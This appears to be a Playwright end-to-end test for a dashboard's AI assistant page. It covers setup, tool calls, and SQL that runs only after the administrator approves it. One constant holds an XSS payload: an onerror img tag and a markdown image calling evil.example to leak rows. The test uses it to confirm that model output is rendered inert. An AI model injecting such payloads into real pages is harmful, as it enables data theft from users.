"""The page Assistant, with a server that speaks as a model: set up by the owner, asked, SQL run only after the administrator agreed."""

import re
from collections.abc import Iterator

import pytest
from playwright.async_api import expect

from tests.dashboard.administrators import Administrator, add_administrator
from tests.dashboard.window import DashboardWindow
from tests.platform import Platform, platform
from tests.scripted_model import ScriptedModel, scripted_model

pytestmark = pytest.mark.timeout(240)

XSS = "<img src=x onerror=console.error('xss')> ![x](http://evil.example/?rows)"
ANSWER = f"It is hidden {XSS}\n\n```sql\nselect id from public.notes\n```\nThat is all."


@pytest.fixture(scope="module")
def server(built_dashboard: None, chromium_program: str) -> Iterator[Platform]:
    """A platform that may reach models on its own machine; the setting is read at the start."""
    with platform(environment={"HEADWATER_ASSISTANT_ALLOW": '["127.0.0.1"]'}) as running:
        running.psql(
            "create table public.notes (id int primary key, body text); insert into public.notes values (1, 'row-secret-4711')"
        )
        yield running


@pytest.fixture(scope="module")
def owner(server: Platform) -> Administrator:
    """An owner with a password and a session."""
    return add_administrator(server, "owner")


@pytest.fixture
def model() -> Iterator[ScriptedModel]:
    """A model that says what a test wrote down."""
    with scripted_model() as serving:
        yield serving


async def test_the_owner_sets_it_up_and_it_answers(
    window: DashboardWindow, server: Platform, model: ScriptedModel
) -> None:
    page = window.page
    await page.emulate_media(reduced_motion="reduce")
    await window.open("assistant")
    await expect(page.get_by_role("heading", name="The assistant is switched off")).to_be_visible()
    await window.check_accessibility()
    await page.get_by_role("button", name="Settings", exact=True).click()
    form = page.get_by_role("dialog", name="Assistant")
    await form.get_by_text("Enabled", exact=True).click()
    await form.get_by_role("textbox", name="URL").fill(model.url)
    await form.get_by_role("textbox", name="Model").fill("m-1")
    await form.get_by_label(re.compile("^api key$", re.IGNORECASE)).fill("key-4712")
    await form.get_by_text("Sends rows", exact=True).click()
    await form.get_by_role("button", name="Save").click()
    await expect(form).to_have_count(0)
    await expect(page.get_by_text("Ask for a query, a policy or a function")).to_be_visible()

    model.calls("describe_table", {"table": "notes"})
    model.answers.append([{"choices": [{"delta": {"content": part}}]} for part in (ANSWER[:20], ANSWER[20:])])
    await page.get_by_role("textbox", name="Question").fill("Why is my row hidden?")
    await page.keyboard.press("Control+Enter")
    log = page.get_by_role("log", name="Conversation")
    await expect(log).to_contain_text("That is all.")
    await expect(log).to_contain_text(XSS)
    await expect(log.get_by_text("describe_table: read")).to_be_visible()
    await expect(log.get_by_role("img")).to_have_count(0)
    assert model.keys == ["Bearer key-4712"] * 2

    model.calls("execute_sql", {"query": "select body from public.notes"})
    await page.get_by_role("textbox", name="Question").fill("What is in it?")
    await page.get_by_role("button", name="Send").click()
    asks = page.get_by_role("region", name="The model wants to run this and read its result").first
    await expect(asks).to_contain_text("select body from public.notes")
    assert "row-secret-4711" not in model.sent()
    await expect(log.get_by_text("execute_sql: read")).to_have_count(0)
    await window.check_accessibility()
    await window.check_narrow()
    await window.screenshot("assistant")
    model.says("A secret.")
    await page.get_by_role("button", name="Run it and send the rows").click()
    await expect(log).to_contain_text("A secret.")
    assert "row-secret-4711" in model.sent()

    await page.reload()
    await expect(log).to_contain_text("That is all.")
    await page.get_by_role("button", name="Open in SQL").click()
    await expect(page.get_by_role("textbox", name="SQL statements")).to_contain_text(
        "select id from public.notes"
    )
    await page.keyboard.press("Control+a")
    await page.keyboard.insert_text("select nothing from notes")
    await page.keyboard.press("Control+Enter")
    await page.get_by_role("button", name="Ask the assistant").click()
    await expect(page.get_by_role("textbox", name="Question")).to_have_value(
        "This SQL failed. Explain why and correct it.\n\n```sql\nselect nothing from notes\n```\n\n"
        'Error: column "nothing" does not exist'
    )
    await page.get_by_role("button", name="New conversation").first.click()
    await page.get_by_role("dialog").get_by_role("button", name="New conversation").click()
    await expect(log).not_to_contain_text("That is all.")
